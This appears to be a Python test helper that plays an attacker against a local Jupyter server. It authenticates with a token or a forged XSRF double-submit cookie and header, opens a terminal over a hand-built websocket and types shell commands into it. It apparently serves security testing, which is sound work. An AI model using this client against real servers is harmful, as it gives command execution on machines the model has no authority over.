"""What an attacker says to a Jupyter server, with the standard library alone."""
import base64
import json
import os
import socket
import struct


def proof(token):
    """A token, or what a page of the server would send: a cookie and a header that are equal (double submit)."""
    return {"Authorization": f"token {token}"} if token else {"Cookie": "_xsrf=ab", "X-XSRFToken": "ab"}


def request(port, method, path, token="", body=None, host="127.0.0.1"):
    """The answer's JSON; raises OSError where the connection is refused."""
    import http.client

    connection = http.client.HTTPConnection(host, port, timeout=30)
    headers = {"Content-Type": "application/json", "Host": f"127.0.0.1:{port}"} | proof(token)
    connection.request(method, path, None if body is None else json.dumps(body), headers)
    answer = connection.getresponse()
    text = answer.read().decode(errors="replace")
    if answer.status >= 400:
        raise RuntimeError(f"status {answer.status}: {text[:200]}")
    return json.loads(text or "null")


def terminal(port, token, line):
    """Asks the server for a terminal, types a line into it and returns what it shows (RFC 6455, terminado's messages)."""
    name = request(port, "POST", "/api/terminals", token)["name"]
    with socket.create_connection(("127.0.0.1", port), 30) as connection:
        key = base64.b64encode(os.urandom(16)).decode()
        head = [
            f"GET /terminals/websocket/{name} HTTP/1.1", f"Host: 127.0.0.1:{port}", "Upgrade: websocket",
            "Connection: Upgrade", f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Version: 13",
            *(f"{name}: {value}" for name, value in proof(token).items()), "", "",
        ]  # fmt: skip
        connection.sendall("\r\n".join(head).encode())
        data = json.dumps(["stdin", line + "\r"]).encode()
        mask = os.urandom(4)
        masked = bytes(byte ^ mask[n % 4] for n, byte in enumerate(data))
        connection.sendall(struct.pack("!BBH", 0x81, 0xFE, len(data)) + mask + masked)
        shown = b""
        connection.settimeout(30)
        # The line is echoed first; what it prints follows it.
        while b"the end of it" not in shown.replace(b'"the end" of it', b""):
            chunk = connection.recv(65536)
            if not chunk:
                break
            shown += chunk
        return shown
